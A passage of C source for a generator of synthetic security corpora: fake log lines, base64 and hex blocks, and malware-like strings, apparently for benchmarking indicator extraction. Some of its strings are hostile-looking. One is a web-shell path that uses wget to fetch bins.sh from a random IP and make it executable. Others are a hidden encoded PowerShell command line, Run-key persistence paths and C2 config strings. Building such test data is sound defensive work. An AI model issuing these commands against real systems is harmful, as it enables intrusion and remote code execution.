        ps(" - - "), p_clf_time(), ps(" \""), ps(PICK(((const char *const[]){"GET", "GET", "GET", "POST", "HEAD"}))),
            pc(' ');
        if (chance(10)) ps("/shell?cd+/tmp;wget+http://"), p_ipv4(0), ps("/bins.sh;chmod+777+bins.sh");
        else ps(PICK(LOGPATHS));
        ps(" HTTP/1.1\" "), pu(PICK(((const uint32_t[]){200, 200, 200, 301, 302, 404, 404, 403, 500}))),
            pc(' '), pu(rng(0, 60000)), ps(" \"");
        if (chance(20)) p_url(0); else pc('-');
        ps("\" \""), ps(PICK(UAS)), ps("\"\n");
        break;
    case 1: /* sshd via syslog, ISO timestamps */
        p_iso(0), pc(' '), ps(PICK(HOSTS)), ps(" sshd["), pu(rng(300, 65000)), ps("]: ");
        switch (rnd(3)) {
        case 0: ps("Failed password for invalid user "), ps(PICK(ROLES)), ps(" from "); break;
        case 1: ps("Accepted publickey for root from "); break;
        default: ps("Connection closed by authenticating user admin "); break;
        }
        p_ipv4(0), ps(" port "), pu(rng(1024, 65535)), ps(" ssh2\n");
        break;
    case 2: /* DNS query log */
        p_iso(1), pc(' '), ps("dns01 named[812]: client @0x7f"), phex(9, 0), pc(' '), p_private_ip(), pc('#'),
            pu(rng(1024, 65535)), ps(" (");
        {
            size_t s = BL;
            p_domain(0);
            size_t e = BL;
            ps("): query: ");
            pn((const char *)B + s, e - s); /* same name, not counted twice */
        }
        ps(PICK(((const char *const[]){" IN A +E(0)", " IN AAAA +", " IN TXT -E(0)D"}))), ps(" ("), p_private_ip(), ps(")\n");
        break;
    case 3: /* squid proxy */
        pu(1790899200u + (unsigned)rnd(2000000)), pc('.'), pu(rng(100, 999)), pc(' '), pu(rng(1, 9999)), pc(' '),
            p_private_ip(), ps(PICK(((const char *const[]){" TCP_MISS/200 ", " TCP_TUNNEL/200 ", " TCP_DENIED/403 "}))),
            pu(rng(200, 900000)), ps(" GET "), p_url(0), ps(" - HIER_DIRECT/"), p_ipv4(0), ps(" text/html\n");
        break;
    case 4: /* firewall, kernel log */
        p_iso(0), pc(' '), ps(PICK(HOSTS)), ps(" kernel: [UFW BLOCK] IN=eth0 OUT= MAC="), p_mac(), ps(" SRC="), p_ipv4(0),
            ps(" DST="), p_private_ip(), ps(" LEN="), pu(rng(40, 1500)), ps(" TOS=0x00 PREC=0x00 TTL="), pu(rng(30, 128)),
            ps(" ID="), pu(rnd(65536)), ps(" PROTO=TCP SPT="), pu(rng(1024, 65535)), ps(" DPT="),
            pu(PICK(((const uint32_t[]){22, 23, 445, 3389, 5900, 8080}))), ps(" WINDOW=1024 RES=0x00 SYN URGP=0\n");
        break;
    default: /* JSON (EDR / NDR export) */
        ps("{\"ts\":\""), p_iso(1), ps("\",\"host\":\""), ps(PICK(HOSTS)), ps("\",\"src_ip\":\""), p_private_ip(),
            ps("\",\"dst_ip\":\""), p_ipv4(0), ps("\",\"dst_port\":"), p_ph('p'), ps(",\"sni\":\""), p_domain(0),
            ps("\",\"bytes_out\":"), pu(rng(100, 5000000)), ps(",\"process\":\""), ps(PICK(FILES)),
            ps("\",\"agent_version\":\""), p_version(), ps("\"}\n");
        break;
    }
}

static void blk_log(void)
{
    int kind = (int)rnd(6), n = (int)rng(4, 30);
    if (chance(50))
        ps(PICK(((const char *const[]){"Log excerpt:\n", "```\n", "Relevant log entries:\n\n"})));
    for (int i = 0; i < n; i++)
        log_line(chance(85) ? kind : (int)rnd(6));
    pc('\n');
}

static void blk_base64(void)
{
    int n = (int)rng(3, 40), cert = chance(30);
    if (cert)
        ps("-----BEGIN CERTIFICATE-----\n");
    for (int i = 0; i < n; i++) {
        palnum(i == n - 1 ? (int)rng(4, 75) : 76, B64);
        if (i == n - 1 && chance(60))
            ps(chance(50) ? "=" : "==");
        pc('\n');
    }
    if (cert)
        ps("-----END CERTIFICATE-----\n");
    pc('\n');
}

static void blk_powershell(void)
{
    ps("The following command was executed:\n\n    powershell.exe -nop -w hidden -enc ");
    palnum((int)rng(200, 1500), B64);
    ps("=\n\n");
}

static void blk_hexdump(void)
{
    int n = (int)rng(4, 16);
    uint32_t off = rnd(4096) * 16;
    for (int i = 0; i < n; i++, off += 16) {
        for (int k = 28; k >= 0; k -= 4)
            pc("0123456789abcdef"[(off >> k) & 15]);
        pc(' ');
        for (int j = 0; j < 16; j++) {
            pc(' ');
            if (j == 8)
                pc(' ');
            phex(2, 0);
        }
        ps("  |................|\n");
    }
    pc('\n');
}

/* Block mix, tuned so that by bytes the corpus is about 60% prose, 12% logs,
 * 16% base64, 6% hex dumps, 4% encoded command lines and 1% indicator lists,
 * with one IoC per ~370 bytes overall (prose ~600, logs ~80, lists ~75). */
static void blk_text(void)
{
    uint32_t r = rnd(1000);
    if (r < 690) blk_prose();
    else if (r < 860) blk_heading();
    else if (r < 879) blk_log();
    else if (r < 929) blk_base64();
    else if (r < 965) blk_hexdump();
    else if (r < 989) blk_powershell();
    else blk_ioclist();
}

/* ------------------------------------------------------------ binary ---- */

static const char *const PESTR[] = {
    "This program cannot be run in DOS mode.", "kernel32.dll", "ntdll.dll", "wininet.dll",
    "advapi32.dll", "GetProcAddress", "LoadLibraryA", "VirtualAlloc", "VirtualProtect",
    "CreateRemoteThread", "InternetOpenUrlW", "WinHttpSendRequest", "HttpSendRequestA",
    "RegSetValueExW", "CryptDecrypt", "IsDebuggerPresent", "cmd.exe /c %s", "%s\\%s.exe",
    "SeDebugPrivilege", "Global\\", "\\\\.\\pipe\\msagent_%x", "FileVersion", "ProductVersion",
    "Microsoft Corporation", "Accept-Language: en-US,en;q=0.9", "Content-Type: application/octet-stream",
    ".text", ".rdata", ".data", ".reloc", "GCC: (GNU) 12.2.0", "Go build ID:", "runtime.main",
    "setup.exe", "readme.txt", "System.Net.WebClient", "Console.WriteLine",
};

/* A C2-config-like string. */
static void bin_string(void)
{
    switch (rnd(16)) {
    case 0: case 1: case 2: p_url(0); break;
    case 3: case 4: p_domain(0); break;
    case 5: p_ipv4(0); break;
    case 6: p_ipv4(0), pc(':'), p_ph('p'); break;
    case 7: ps(PICK(UAS)); break;
    case 8:
        switch (rnd(3)) {
        case 0: ps("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"); break;
        case 1: ps("SYSTEM\\CurrentControlSet\\Services\\"), palnum((int)rng(5, 10), LOWER); break;
        default: ps("Software\\Classes\\CLSID\\{"), p_guid(), ps("}\\InprocServer32"); break;
        }
        break;
    case 9: ps(PICK(WINPATHS)), ps(PICK(FILES)); break;
    case 10: case 11: ps(PICK(PESTR)); break;
    case 12:
        ps("POST "), p_urlpath(), ps(" HTTP/1.1\r\nHost: "), p_domain(0), ps("\r\nUser-Agent: "), ps(PICK(UAS)),
            ps("\r\n");
        break;
    case 13:
        ps("{\"c2\":[\""), p_domain(0), ps(":443\",\""), p_ipv4(0), ps(":8080\"],\"sleep\":"), pu(rng(5, 600)),
            ps(",\"jitter\":"), pu(rnd(50)), ps(",\"botnet\":\""), palnum(6, LOWDIG), ps("\"}");
        break;
    case 14: p_email(0); break;
    default:
        switch (rnd(4)) {
        case 0: p_hash(); break;
        case 1: p_version(); break;
        case 2: p_btc(); break;
        default: ps("Global\\{"), p_guid(), pc('}'); break;
        }
        break;
    }
}

static void p_random(size_t n)
{
    while (n >= 8) {
        uint64_t r = next64();
        memcpy(B + BL, &r, 8);
        BL += 8, n -= 8;
    }
    while (n--)
        pc((int)(next64() & 0xff));
}

static void blk_bin(void)
{
    size_t gap = rng(1024, 7168);
    if (chance(10)) { /* section padding */
        size_t z = rng(64, 1024);
        memset(B + BL, 0, z);
        BL += z;
        gap -= z / 2;
    }
    p_random(gap);
    size_t s = BL;
    pc(0);
    bin_string();
    size_t e = BL;
    if (chance(40)) { /* re-encode as UTF-16LE */
        size_t n = e - s;
        char tmp[2048];
        if (n > sizeof tmp)
            n = sizeof tmp;
        memcpy(tmp, B + s, n);
        BL = s;
        if (BL & 1)
            pc(0);
        for (size_t i = 0; i < n; i++)
            pc(tmp[i]), pc(0);
        pc(0), pc(0);
    } else {
        pc(0);
    }
}

/* ------------------------------------------------------------- main ----- */

static void gen_file(const char *dir, const char *name, uint64_t target, uint64_t sd, int text)
{
    char path[4096], tmp[4200];
    if ((size_t)snprintf(path, sizeof path, "%s/%s", dir, name) >= sizeof path)
        die("path too long", dir);
    snprintf(tmp, sizeof tmp, "%s.tmp", path);
    OF = fopen(tmp, "wb");
    if (!OF)
        die("cannot create", tmp);
    seed(sd);
    cy = 2026, cmo = 10, cd = 2, chh = 0, cmi = 0, cse = 0;
    OWR = 0, OTARGET = target, BL = 0, NIOC = 0;
    while (OWR + BL < OTARGET) {
        if (text)
            blk_text();
        else
            blk_bin();
        if (BL >= CHUNK)
            flush_out(text);
    }
    flush_out(text);
    if (fclose(OF) != 0)
        die("write failed", tmp);
    if (rename(tmp, path) != 0)
        die("cannot rename", tmp);
    fprintf(stderr, "gen_corpus: %s: %llu bytes, %llu IoCs written (one per %llu bytes)\n", path,
            (unsigned long long)target, (unsigned long long)NIOC,
            (unsigned long long)(NIOC ? target / NIOC : 0));
}

int main(int argc, char **argv)
{
    if (argc < 2 || argc > 4) {
        fprintf(stderr, "usage: %s OUTDIR [MIB [text|bin|both]]\n", argv[0]);
        return 2;
    }
    unsigned long mib = 256;
    if (argc >= 3) {
        char *end;
        mib = strtoul(argv[2], &end, 10);
        if (*end || mib == 0 || mib > 65536)
            die("bad size in MiB", argv[2]);
    }
    const char *which = argc >= 4 ? argv[3] : "both";
    int t = !strcmp(which, "text") || !strcmp(which, "both");
    int b = !strcmp(which, "bin") || !strcmp(which, "both");
    if (!t && !b)
        die("expected text, bin or both", which);
    B = malloc(CHUNK + SLACK);
    if (!B)
        die("out of memory", NULL);
    uint64_t size = (uint64_t)mib << 20;
    if (t)
        gen_file(argv[1], "text.txt", size, 0x7469782d74657874u /* "tix-text" */, 1);
    if (b)
        gen_file(argv[1], "bin.bin", size, 0x7469782d62696e00u /* "tix-bin" */, 0);
    free(B);
    return 0;
}
